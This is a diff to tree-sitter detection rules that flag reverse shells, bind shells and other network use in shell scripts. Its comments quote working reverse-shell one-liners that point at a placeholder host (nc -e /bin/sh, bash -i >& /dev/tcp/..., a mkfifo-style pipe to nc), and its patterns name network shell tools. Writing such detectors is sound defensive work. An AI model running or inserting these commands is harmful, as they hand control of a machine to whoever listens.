@@ -3,8 +3,8 @@
 ; /dev/tcp/HOST/PORT, /dev/udp/... in a word, a quoted string or a piece of one; a comment or a
 ; heredoc that is only data is not a word
 ([(word) (raw_string) (string) (ansi_c_string)] @finding
- (#not-parent-type? @finding "concatenation")
  (#value-match? @finding "/dev/(tcp|udp)/")
+ (#not-parent-type? @finding "concatenation")
  (#set! id "sh-dev-tcp")
  (#set! severity "high")
  (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))
@@ -33,7 +33,7 @@
 ; ---- shells wired to the network ----
 
 ; nc -e /bin/sh h 4444, ncat --sh-exec sh -l 4444
-((command name: (_) @n argument: (_) @opt) @finding
+((command argument: (_) @opt) @n @finding
  (#resolves-to? @n "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|sbd")
  (#match? @opt "^-[a-zA-Z0-9]*[ec]$|^--(sh-)?exec(=|$)|^--lua-exec(=|$)")
  (#set! id "sh-network-shell")
@@ -41,7 +41,7 @@
  (#set! message "connects a shell to the network (a reverse or bind shell): whoever is at the other end controls the machine"))
 
 ; socat tcp:h:4444 exec:/bin/sh, socat ... SYSTEM:'bash -i'
-((command name: (_) @n argument: (_) @addr) @finding
+((command argument: (_) @addr) @n @finding
  (#resolves-to? @n "socat")
  (#value-match? @addr "(?i)(^|[!,])(exec|system):")
  (#set! id "sh-network-shell")
@@ -49,11 +49,9 @@
  (#set! message "connects a program to the network (socat exec:): whoever is at the other end controls it"))
 
 ; nc h 4444 | sh, telnet h 23 | /bin/bash | telnet h 24
-((pipeline (_) @src [(command [name: (_) @sh argument: (_) @sh] . argument: (_)* @a)
-    (redirected_statement body: (command [name: (_) @sh argument: (_) @sh] . argument: (_)* @a))]) @finding
+((pipeline (_) @src [(command) (redirected_statement)] @sink) @finding
  (#contains-call? @src "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
- (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript")
- (#not-match? @a "^[^-]")
+ (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
  (#set! id "sh-network-shell")
  (#set! severity "high")
  (#set! message "runs what comes from the network in a shell (a reverse shell): whoever is at the other end controls the machine"))
@@ -61,20 +59,17 @@
 ; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f (a redirect in the middle of a
 ; pipeline nests the stages before it)
 ((pipeline
-   [(command [name: (_) @sh argument: (_) @sh] . argument: (_)* @a)
-    (redirected_statement body: (command [name: (_) @sh argument: (_) @sh] . argument: (_)* @a))
-    (redirected_statement body: (pipeline (command [name: (_) @sh argument: (_) @sh] . argument: (_)* @a)))]
+   [(command) (redirected_statement) (redirected_statement body: (pipeline (command) @sink))] @sink
    (_) @dst) @finding
  (#contains-call? @dst "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
- (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript")
- (#not-match? @a "^[^-]")
+ (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
  (#set! id "sh-network-shell")
  (#set! severity "high")
  (#set! message "sends a shell's output to the network (a reverse shell): whoever is at the other end controls the machine"))
 
 ; bash -i >& /dev/tcp/h/4444 0>&1, sh <&196 >&196 after exec 196<>/dev/tcp/...
 ((redirected_statement
-   body: (command name: (_) @sh)
+   body: (command) @sh
    redirect: (file_redirect destination: (_) @dst)) @finding
  (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript")
  (#value-match? @dst "^/dev/(tcp|udp)/")
@@ -85,7 +80,7 @@
 ; ---- plain network use ----
 
 ; curl https://x, wget u, ssh host, nc host 80 (an argument that is not an option)
-((command name: (_) @n argument: (_) @arg) @finding
+((command argument: (_) @arg) @n @finding
  (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|lwp-download|GET|HEAD|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ssh|sftp|ftp|lftp|ncftp|tftp|mosh|sshpass")
  (#match? @arg "^[^-]")
  (#set! id "sh-network")
@@ -93,7 +88,7 @@
  (#set! message "opens a network connection"))
 
 ; scp f host:, rsync -a d/ user@host:d/ (a local copy is not network use)
-((command name: (_) @n argument: (_) @arg) @finding
+((command argument: (_) @arg) @n @finding
  (#resolves-to? @n "scp|rsync")
  (#value-match? @arg "^([^/]*@)?[A-Za-z0-9._-]+:|^[a-z]+://")
  (#set! id "sh-network")
